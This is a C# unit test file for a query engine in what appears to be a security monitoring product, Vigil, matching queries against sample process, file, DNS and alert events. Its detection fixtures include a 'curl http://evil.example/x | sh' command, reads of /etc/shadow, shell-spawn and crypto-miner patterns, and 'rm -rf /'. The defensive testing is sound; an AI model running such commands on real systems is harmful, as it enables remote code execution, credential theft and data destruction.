using Vigil.Core.Query;
using Vigil.Core.Query.Evaluation;

namespace Vigil.Core.Tests.Query;

public sealed class QueryMatchingTests
{
    [Theory]
    // whole-value words, case, wildcards
    [InlineData("exec", "@agent.rule_id:shell_spawned", true)]
    [InlineData("exec", "@agent.rule_id:SHELL_SPAWNED", true)]
    [InlineData("exec", "@agent.rule_id:shell", false)]
    [InlineData("exec", "@agent.rule_id:shell*", true)]
    [InlineData("exec", "@agent.rule_id:*spawned", true)]
    [InlineData("exec", "@agent.rule_id:Shell_Spawne?", true)]
    [InlineData("exec", "@agent.rule_id:shell_spawn?", false)]
    [InlineData("exec", "@agent.rule_id:shell\\*", false)]
    [InlineData("exec", "@process.executable.path:/usr/bin/bash", true)]
    [InlineData("exec", "@process.executable.path:\"/usr/bin/bash\"", true)]
    [InlineData("exec", "@process.executable.path:\"/usr/bin/*\"", false)]
    [InlineData("exec", "@process.executable.path:/usr/bin/*", true)]
    [InlineData("exec", "@process.executable.path:/usr/sbin/*", false)]
    [InlineData("exec", "@process.user:www-data", true)]
    [InlineData("exec", "@escaped:\"quote \\\" inside\"", true)]
    [InlineData("exec", "@escaped:quote*", true)]
    // reserved attributes and tags
    [InlineData("exec", "host:web-1", true)]
    [InlineData("exec", "host:web-*", true)]
    [InlineData("exec", "host:db-*", false)]
    [InlineData("exec", "env:prod", true)]
    [InlineData("exec", "env:PROD", true)]
    [InlineData("exec", "team:payments", true)]
    [InlineData("exec", "team:security", true)]
    [InlineData("exec", "team:other", false)]
    [InlineData("exec", "-team:payments", false)]
    [InlineData("exec", "version:>10", true)]
    [InlineData("exec", "version:<10", false)]
    // numbers, comparisons, ranges
    [InlineData("exec", "@process.pid:4242", true)]
    [InlineData("exec", "@process.pid:4242.0", true)]
    [InlineData("exec", "@process.pid:4241", false)]
    [InlineData("exec", "@process.pid:>4000", true)]
    [InlineData("exec", "@process.pid:>4242", false)]
    [InlineData("exec", "@process.pid:>=4242", true)]
    [InlineData("exec", "@process.pid:<4242", false)]
    [InlineData("exec", "@process.pid:<=4242", true)]
    [InlineData("exec", "@process.pid:[4000 TO 5000]", true)]
    [InlineData("exec", "@process.pid:[4242 TO 5000]", true)]
    [InlineData("exec", "@process.pid:{4242 TO 5000}", false)]
    [InlineData("exec", "@process.pid:{4000 TO 4242]", true)]
    [InlineData("exec", "@process.pid:{4000 TO 4242}", false)]
    [InlineData("exec", "@process.pid:[5000 TO *]", false)]
    [InlineData("exec", "@process.pid:[* TO 5000]", true)]
    [InlineData("exec", "@process.pid:42*", true)]
    [InlineData("exec", "@score:7.5", true)]
    [InlineData("exec", "@score:>7", true)]
    [InlineData("exec", "@score:>-1", true)]
    [InlineData("exec", "@process.uid:33", true)]
    [InlineData("exec", "@process.user:>w", true)]
    // arrays
    [InlineData("exec", "@process.ancestors.file.name:nginx", true)]
    [InlineData("exec", "@process.ancestors.file.name:systemd", true)]
    [InlineData("exec", "@process.ancestors.file.name:sshd", false)]
    [InlineData("exec", "-@process.ancestors.file.name:nginx", false)]
    [InlineData("exec", "@process.ancestors.pid:1", true)]
    [InlineData("exec", "@process.ancestors.pid:>4000", false)]
    [InlineData("exec", "@process.args:-c", true)]
    [InlineData("exec", "@process.args:*evil.example*", true)]
    [InlineData("exec", "@process.args:\"curl http://evil.example/x | sh\"", true)]
    [InlineData("exec", "@process.ancestors.file.name:(nginx AND systemd)", true)]
    [InlineData("exec", "@process.ancestors.file.name:(NOT nginx)", false)]
    [InlineData("exec", "@process.ancestors.file.name:(nginx OR sshd)", true)]
    // existence, missing, null, objects, booleans
    [InlineData("exec", "@container.id:*", true)]
    [InlineData("exec", "@container.missing:*", false)]
    [InlineData("exec", "-@container.missing:*", true)]
    [InlineData("exec", "-@usr.id:0", true)]
    [InlineData("exec", "@usr.id:0", false)]
    [InlineData("exec", "@note:*", false)]
    [InlineData("exec", "-@note:*", true)]
    [InlineData("exec", "@empty:*", false)]
    [InlineData("exec", "@container:*", true)]
    [InlineData("exec", "@container:abc*", false)]
    [InlineData("exec", "@process.is_thread:false", true)]
    [InlineData("exec", "@process.is_thread:true", false)]
    [InlineData("exec", "@process.is_thread:FALSE", true)]
    // full text over title and message
    [InlineData("exec", "spawned", true)]
    [InlineData("exec", "nginx", true)]
    [InlineData("exec", "SHELL", true)]
    [InlineData("exec", "spa*ned", true)]
    [InlineData("exec", "\"shell spawned by a web\"", true)]
    [InlineData("exec", "\"web server shell\"", false)]
    [InlineData("exec", "kernel", false)]
    [InlineData("exec", "-kernel", true)]
    // boolean operators and precedence
    [InlineData("exec", "*", true)]
    [InlineData("exec", "", true)]
    [InlineData("exec", "@agent.rule_id:shell_spawned host:web-1", true)]
    [InlineData("exec", "@agent.rule_id:shell_spawned AND host:db-1", false)]
    [InlineData("exec", "@agent.rule_id:shell_spawned OR host:db-1", true)]
    [InlineData("exec", "@agent.rule_id:shell_spawned OR host:db-1 env:staging", true)]
    [InlineData("exec", "env:staging @agent.rule_id:nope OR host:web-1", true)]
    [InlineData("exec", "env:staging AND (@agent.rule_id:nope OR host:web-1)", false)]
    [InlineData("exec", "NOT host:web-1 OR env:prod", true)]
    [InlineData("exec", "NOT (host:web-1 OR env:prod)", false)]
    [InlineData("exec", "NOT NOT host:web-1", true)]
    [InlineData("exec", "@agent.rule_id:(shell_spawned OR shell_spawned_v2) host:web-* -@process.file.name:ansible", true)]
    [InlineData("exec", "@agent.rule_id:(shell_spawned OR shell_spawned_v2) host:web-* -@process.file.name:bash", false)]
    [InlineData("exec", "@agent.rule_id:(foo OR bar)", false)]
    [InlineData("exec", "@agent.rule_id:(foo OR shell*)", true)]
    [InlineData("exec", "@process.pid:(>5000 OR <100)", false)]
    [InlineData("exec", "@process.pid:([1 TO 10] OR [4000 TO 4300])", true)]
    // open event
    [InlineData("open", "@file.path:/etc/shadow", true)]
    [InlineData("open", "@file.path:/etc/*", true)]
    [InlineData("open", "@file.path:/ETC/SHADOW", true)]
    [InlineData("open", "@file.flags:O_RDONLY", true)]
    [InlineData("open", "@file.flags:o_cloexec", true)]
    [InlineData("open", "@file.flags:O_WRONLY", false)]
    [InlineData("open", "-@file.flags:O_WRONLY", true)]
    [InlineData("open", "@file.mode:420", true)]
    [InlineData("open", "@file.mode:[400 TO 500]", true)]
    [InlineData("open", "@evt.name:(exec OR open)", true)]
    [InlineData("open", "@process.ancestors.file.name:sudo env:staging", true)]
    [InlineData("open", "host:web-*", false)]
    [InlineData("open", "@container.id:*", false)]
    [InlineData("open", "-@container.id:*", true)]
    [InlineData("open", "spawned", false)]
    // dns event
    [InlineData("dns", "@dns.question.name:*.minexmr.com", true)]
    [InlineData("dns", "@dns.question.name:*minexmr*", true)]
    [InlineData("dns", "@dns.question.name:pool.minexmr.co", false)]
    [InlineData("dns", "@network.destination.ip:10.0.0.*", true)]
    [InlineData("dns", "@network.destination.port:53", true)]
    [InlineData("dns", "@network.destination.port:[1 TO 1023]", true)]
    [InlineData("dns", "@network.destination.port:{53 TO 100}", false)]
    [InlineData("dns", "@network.destination.ip:[10.0.0.0 TO 10.0.0.99]", true)]
    [InlineData("dns", "@dns.question.type:a", true)]
    [InlineData("dns", "@evt.name:dns -@process.executable.path:/usr/*", true)]
    [InlineData("dns", "\"mining pool\"", true)]
    // signal document
    [InlineData("signal", "status:high", true)]
    [InlineData("signal", "status:(high OR critical)", true)]
    [InlineData("signal", "status:low", false)]
    [InlineData("signal", "rule:\"Shell spawned by web server\"", true)]
    [InlineData("signal", "rule:shell*", true)]
    [InlineData("signal", "host:web-1", true)]
    [InlineData("signal", "source:runtime-security-agent", true)]
    [InlineData("signal", "tactic:TA0002*", true)]
    [InlineData("signal", "tactic:ta0003*", false)]
    [InlineData("signal", "@workflow.triage.state:open", true)]
    [InlineData("signal", "@workflow.triage.state:archived", false)]
    [InlineData("signal", "@workflow.triage.assignee:*", false)]
    [InlineData("signal", "@workflow.rule.type:\"Workload Security\"", true)]
    [InlineData("signal", "@workflow:*", true)]
    [InlineData("signal", "@events_matched:>10", true)]
    [InlineData("signal", "@events_matched:[1 TO 10]", false)]
    [InlineData("signal", "@first_seen:>2026-01-01", true)]
    [InlineData("signal", "@first_seen:<2026-01-01", false)]
    [InlineData("signal", "web-1", true)]
    [InlineData("signal", "env:prod -@workflow.triage.state:archived", true)]
    [InlineData("signal", "@agent.rule_id:shell_spawned", true)]
    [InlineData("signal", "service:*", false)]
    public void Matches_QueryOnDocument_GivesExpectedResult(string document, string query, bool expected)
    {
        Assert.True(QueryCompiler.TryCompile(query, out var compiled, out var diagnostics), string.Join("; ", diagnostics));

        Assert.Equal(expected, compiled.Matches(QueryTestDocuments.Get(document)));
    }

    [Fact]
    public void Matches_AttributeNameWithLoneSurrogate_DoesNotMatchAndDoesNotThrow()
    {
        Assert.True(QueryCompiler.TryCompile("@a\uD83D.b:x OR -@\uD83D:*", out var compiled, out _));

        Assert.True(compiled.Matches(QueryTestDocuments.Exec));
        Assert.True(compiled.Matches(QueryTestDocuments.Signal));
    }

    [Theory]
    [InlineData("host:json-host", false)]
    [InlineData("host:tag-host", true)]
    [InlineData("service:api", true)]
    [InlineData("team:core", false)]
    [InlineData("@team:core", true)]
    public void Matches_JsonEventReservedAndTagFields_ReadTagsFirstThenTopLevelJson(string query, bool expected)
    {
        using var json = System.Text.Json.JsonDocument.Parse("{\"host\":\"json-host\",\"service\":\"api\",\"team\":\"core\"}");
        var document = new JsonEventDocument(json.RootElement, QueryTags.Parse(["host:tag-host"]));

        Assert.True(QueryCompiler.TryCompile(query, out var compiled, out _));
        Assert.Equal(expected, compiled.Matches(document));
    }

    [Fact]
    public void Matches_CustomFullTextFields_SearchOnlyThoseFields()
    {
        var options = new QueryCompileOptions { FullTextFields = [QueryField.Attribute("process.args")] };
        Assert.True(QueryCompiler.TryCompile("evil", out var compiled, out _, options));
        Assert.True(QueryCompiler.TryCompile("spawned", out var other, out _, options));

        Assert.True(compiled.Matches(QueryTestDocuments.Exec));
        Assert.False(other.Matches(QueryTestDocuments.Exec));
    }

    [Fact]
    public void Compile_Query_ExposesFieldsInOrderOfFirstUse()
    {
        Assert.True(QueryCompiler.TryCompile(
            "@agent.rule_id:(a OR b) host:web-* -@process.file.name:ansible team:x OR @agent.rule_id:c", out var compiled, out _));

        Assert.Equal(["@agent.rule_id", "host", "@process.file.name", "team"], compiled.Fields.Select(f => f.ToString()));
        Assert.Equal([QueryFieldKind.Attribute, QueryFieldKind.Reserved, QueryFieldKind.Attribute, QueryFieldKind.Tag], compiled.Fields.Select(f => f.Kind));
        Assert.False(compiled.UsesFullText);
    }

    [Fact]
    public void Compile_QueryWithBareWord_ReportsFullTextUse()
    {
        Assert.True(QueryCompiler.TryCompile("host:a (b OR -\"c d\")", out var compiled, out _));

        Assert.True(compiled.UsesFullText);
        Assert.Equal("(AND host:a (OR text:b (NOT text:\"c d\")))", compiled.ToString());
    }

    [Fact]
    public void TryCompile_InvalidQuery_ReturnsFalseWithDiagnostics()
    {
        var ok = QueryCompiler.TryCompile("host:", out var compiled, out var diagnostics);

        Assert.False(ok);
        Assert.Null(compiled);
        Assert.Equal("expected a value after 'host:'", Assert.Single(diagnostics).Message);
    }

    [Theory]
    [InlineData("exec", "@agent.rule_id:(cryptominer OR miner*) @process.ancestors.file.name:xmrig host:db-* @process.pid:>100000 -@container.id:* spawned*x")]
    [InlineData("exec", "@process.args:\"rm -rf /\" OR @process.ancestors.pid:[2 TO 3] OR team:x* OR \"no such phrase\" OR @process.is_thread:true")]
    [InlineData("signal", "status:(low OR medium) OR @workflow.triage.state:archived OR tactic:ta0040* OR @events_matched:<5 OR nothing")]
    public void Matches_NonMatchingDocument_AllocatesNothing(string name, string query)
    {
        Assert.True(QueryCompiler.TryCompile(query, out var compiled, out _));
        var document = QueryTestDocuments.Get(name);
        var matched = false;
        var allocated = SteadyStateAllocation.Measure(() =>
        {
            for (var i = 0; i < 1000; i++)
                matched |= compiled.Matches(document);
        });

        Assert.False(matched);
        Assert.Equal(0, allocated);
    }

    [Fact]
    public void Matches_SameCompiledQueryOnManyThreads_GivesSameAnswers()
    {
        Assert.True(QueryCompiler.TryCompile("@process.ancestors.file.name:nginx OR @file.flags:O_RDONLY", out var compiled, out _));
        IQueryDocument[] documents = [QueryTestDocuments.Exec, QueryTestDocuments.Open, QueryTestDocuments.Dns];

        var results = Enumerable.Range(0, 3000).AsParallel().Select(i => compiled.Matches(documents[i % 3])).ToArray();

        for (var i = 0; i < results.Length; i++)
        {
            Assert.Equal(i % 3 != 2, results[i]);
        }
    }
}
